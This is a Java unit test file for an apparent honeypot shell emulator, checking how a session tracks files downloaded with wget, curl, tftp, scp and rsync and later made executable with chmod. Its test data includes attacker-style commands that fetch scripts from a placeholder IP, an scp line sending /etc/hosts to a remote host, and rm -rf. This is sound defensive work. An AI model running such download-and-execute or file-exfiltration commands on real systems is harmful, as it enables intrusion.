package org.decnet.engine.shell.session;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.decnet.engine.shell.TolerantShellParser;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class FileEffectsTest {
  @ParameterizedTest
  @CsvSource({
    "wget http://203.0.113.20/d/a.sh, /root/a.sh",
    "wget 203.0.113.20/a?x=1, /root/a?x=1",
    "wget -q -P /tmp http://203.0.113.20/a, /tmp/a",
    "wget http://203.0.113.20, /root/index.html",
    "curl -sSLO http://203.0.113.20/b#top, /root/b",
    "tftp -g -r dir/c 203.0.113.20, /root/c",
    "tftp -g -l d -r c 203.0.113.20, /root/d",
    "tftp 203.0.113.20 -c get e, /root/e",
    "ftpget -v -u a -p a -P 21 203.0.113.20 f g, /root/f",
    "scp -P 22 u@203.0.113.20:/srv/h /opt/h, /opt/h",
    "scp u@203.0.113.20:/srv/h /opt, /opt/h",
    "rsync -az 203.0.113.20:i ., /root/i"
  })
  void whatAProgramFetchesIsKnownUnderItsName(String line, String path) {
    assertThat(after(line).file(path)).isEqualTo(new KnownFile(FileOrigin.DOWNLOADED, false));
  }

  @ParameterizedTest
  @CsvSource({
    "wget -O x http://203.0.113.20/a, /root/a",
    "curl http://203.0.113.20/b, /root/b",
    "tftp -p -l c 203.0.113.20 put, /root/put",
    "scp /etc/hosts u@203.0.113.20:/srv/h, /root/h"
  })
  void whatIsNotKeptUnderAnOwnNameIsNotKnown(String line, String path) {
    assertThat(after(line).file(path)).isNull();
  }

  @ParameterizedTest
  @CsvSource({
    "+x, true",
    "u+x, true",
    "a=rx, true",
    "755, true",
    "0777, true",
    "100, true",
    "644, false",
    "-x, false",
    "u-x, false",
    "go-w, false",
    "u+rw, false",
    "u-r+x, true",
    "2644, false"
  })
  void onlyAModeWithALeaveToRunCounts(String mode, boolean runs) {
    KnownFile file = after("chmod " + mode + " f").file("/root/f");
    assertThat(file != null && file.madeExecutable()).isEqualTo(runs);
  }

  @Test
  void aPatternMeansTheKnownFilesOfItsDirectory() {
    ShellSession session =
        after(
            "cd /tmp",
            "wget http://203.0.113.20/a1 http://203.0.113.20/a22 http://203.0.113.20/b1",
            "chmod +x a?");

    assertThat(session.file("/tmp/a1")).isEqualTo(new KnownFile(FileOrigin.DOWNLOADED, true));
    assertThat(session.file("/tmp/a22")).isEqualTo(new KnownFile(FileOrigin.DOWNLOADED, false));
    assertThat(session.file("/tmp/b1")).isEqualTo(new KnownFile(FileOrigin.DOWNLOADED, false));
  }

  @Test
  void removalForgetsAndFurtherFilesPushTheOldestOut() {
    ShellSession session = after("wget http://203.0.113.20/a", "rm -rf a");
    assertThat(session.file("/root/a")).isNull();

    for (int i = 0; i < KnownFiles.MOST + 1; i++) {
      session = next(session, "wget http://203.0.113.20/f" + i);
    }
    assertThat(session.file("/root/f0")).isNull();
    assertThat(session.file("/root/f1")).isNotNull();
  }

  @ParameterizedTest
  @CsvSource({
    "a*b, axxb, true",
    "a*b, ab, true",
    "a*b, axbx, false",
    "*, anything, true",
    "?, ab, false",
    "a**?, ab, true",
    "*a*a*a*, aXaXa, true",
    "*a*a*a*, aXaX, false"
  })
  void patternsMatchAsTheShellsDo(String pattern, String name, boolean matches) {
    assertThat(new FileGlob("/tmp", pattern).matches("/tmp/" + name)).isEqualTo(matches);
  }

  private static ShellSession after(String... lines) {
    ShellSession session = ShellSession.NEW;
    for (String line : lines) {
      session = next(session, line);
    }
    return session;
  }

  private static ShellSession next(ShellSession session, String line) {
    ShellSession after = session;
    for (var statement : new TolerantShellParser().parse(line).statements()) {
      after = after.after(statement, null, List.of());
    }
    return after;
  }
}
